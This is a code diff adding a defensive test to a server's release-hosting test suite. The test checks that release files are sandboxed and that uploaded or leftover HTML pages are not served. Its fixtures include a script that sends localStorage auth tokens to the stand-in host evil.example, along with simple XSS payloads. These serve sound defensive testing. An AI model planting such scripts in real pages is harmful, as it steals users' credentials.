@@ -69,6 +69,26 @@ describe.each(testDatabases())('releases on %s', (kind) => {
     expect((await call(t.app, 'GET', '/remotes/comms/.incoming-0123456789abcdef/mf-manifest.json')).status).toBe(404);
   });
 
+  test('a release file opened as a page runs nothing (a sandbox, nosniff); a page kept in a release\'s folder is never served (issue 30 item 2)', async () => {
+    const live = await liveOf('comms');
+    for (const file of ['mf-manifest.json', 'remoteEntry.js', CHUNK]) {
+      const answer = await call(t.app, 'GET', `/remotes/comms/${live}/${file}`);
+      expect([file, answer.headers['content-security-policy'], answer.headers['x-content-type-options']]).toEqual([file, "default-src 'none'; sandbox", 'nosniff']);
+    }
+    // A file on disk that the gate would refuse today (kept from a release of before the list): not served.
+    const folder = path.join(t.dataDir, 'releases', 'comms', live!);
+    writeFileSync(path.join(folder, 'steal.html'), '<script>fetch("//evil.example/?" + localStorage.authTokens)</script>');
+    writeFileSync(path.join(folder, 'steal.svg.html'), '<svg onload="alert(1)"/>');
+    for (const file of ['steal.html', 'steal.svg.html']) expect([file, (await call(t.app, 'GET', `/remotes/comms/${live}/${file}`)).status]).toEqual([file, 404]);
+    // An upload holding one is refused, saying which file and why.
+    const build = path.join(work, 'with-page');
+    writeRemoteBuild(build, 'comms', { portal: { version: '2.0.1' } });
+    writeFileSync(path.join(build, 'index.html'), '<script>alert(1)</script>');
+    const refused = await upload('comms', await tarGz(build));
+    expect(refused.status).toBe(422);
+    expect(refused.json.reasons).toEqual([{ code: 'file_type', message: expect.stringContaining('"index.html"') }]);
+  });
+
   test('an upload is a new release, not live; identical uploads make two releases', async () => {
     const body = await archive('comms', { portal: { version: '2.0.0', gitSha: '0123456789abcdef' } });
     const first = await upload('comms', body);
